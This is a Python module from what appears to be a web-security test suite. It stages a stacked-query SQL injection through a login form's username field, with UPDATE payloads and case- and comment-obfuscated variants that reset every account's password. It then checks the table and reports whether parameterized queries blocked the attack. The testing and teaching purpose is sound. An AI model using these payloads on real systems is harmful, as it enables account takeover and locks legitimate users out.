"""Changing rows from the login form: a second statement behind a semicolon."""

from __future__ import annotations

from checker.attacks.attack import Attack, Target, Unplayable
from checker.attacks.people import enter
from checker.attacks.story import Story, Teller
from checker.suites.trial import Trial
from checker.visitor import VisitError, Visitor

#: Seconds that a statement has which comes after the answer.
_LATE = 2.0


def play(trial: Trial) -> Story:
    """Send an UPDATE along with the name, and look into the table for what it would write."""
    told = Teller()
    owner = trial.account(username="admin", email="admin@example.org")
    enter(trial, trial.visitor(name="the administrator"), owner)
    before = _stored(trial, owner.id)

    attacker = trial.visitor(name="the attacker")
    owned = f"owned-{trial.name()}"
    first, *others = _attempts(owned)
    page = attacker.log_in(first, "x")
    told.scene(
        f"The attacker types the name {first!r}.",
        "mysqlclient, the driver, takes several statements at once. The first one finds nobody; "
        "the second one would give every account the attacker's password.",
        page=page,
    )
    if not _has_changed(trial, owner.id, owned):
        typed = _first_that_works(trial, attacker, others, owner.id, owned)
        told.scene(
            f"The attacker tries {len(others)} other spellings: other quotes, capitals, comments.",
            "Refusing one spelling of an attack leaves all the others.",
            sent=[repr(each) for each in others[:5]] + ["…"],
            came_back=[f"{typed!r} fits." if typed else "We shall see in the table."],
        )
    after = _stored(trial, owner.id)
    worked = after == owned
    told.scene(
        "We look into the table `accounts`, past the app.",
        "What the page said does not matter: what stands in the table does.",
        sent=[f"SELECT password FROM accounts WHERE id = {owner.id}"],
        came_back=[f"before: {before}", f"after:  {after}"],
    )
    if worked:
        thief = trial.visitor(name="the attacker")
        thief.names.append(owner.username)
        try:
            page = thief.log_in(owner.login, owned)
            told.scene(
                f"The attacker logs in as {owner.username} with the password {owned!r}.",
                "Everybody else is locked out of their own account."
                if thief.logged_in()
                else "This app refuses it, and its owner is locked out all the same.",
                page=page,
            )
        except VisitError:
            pass  # the row has changed, whatever becomes of the login
        return told.end(
            True,
            "A stranger has changed a row without ever logging in. Hand values to the driver as "
            "parameters; then a semicolon in a name is a semicolon in a name.",
        )
    return told.end(
        False,
        "The row is as it was. As a parameter, what was typed is one piece of text; nothing in it "
        "begins a statement.",
    )


def _attempts(owned: str) -> list[str]:
    """Return names that end the query they are pasted into, and bring along a statement."""
    statements = (
        f"UPDATE accounts SET password = '{owned}'; COMMIT; -- ",
        f"uPdAtE/**/accounts/**/sEt/**/password='{owned}';cOmMiT;#",
    )
    starts = ("x'; ", 'x"; ', "x'); ", 'x"); ', "1; ")
    return [start + statement for start in starts for statement in statements]


def _first_that_works(
    trial: Trial, attacker: Visitor, attempts: list[str], number: int, owned: str
) -> str | None:
    """Try one spelling after the other, and look into the table each time."""
    for typed in attempts:
        attacker.log_in(typed, "x")
        if _has_changed(trial, number, owned):
            return typed
    return None


def _has_changed(trial: Trial, number: int, owned: str) -> bool:
    # The answer may come before the second statement is done.
    trial.database.wait_until_idle(_LATE)
    return _stored(trial, number) == owned


def _stored(trial: Trial, number: int) -> str:
    found = trial.database.execute("SELECT password FROM accounts WHERE id = %s", (number,))
    if not found:
        raise Unplayable("The account is gone from the table `accounts`.")
    return str(found[0]["password"])


ATTACK = Attack(
    name="sql-update",
    title="give every account a new password from the login form",
    since=1,
    works_on=Target(1, "f-string"),
    fails_on=Target(1),
    play=play,
)
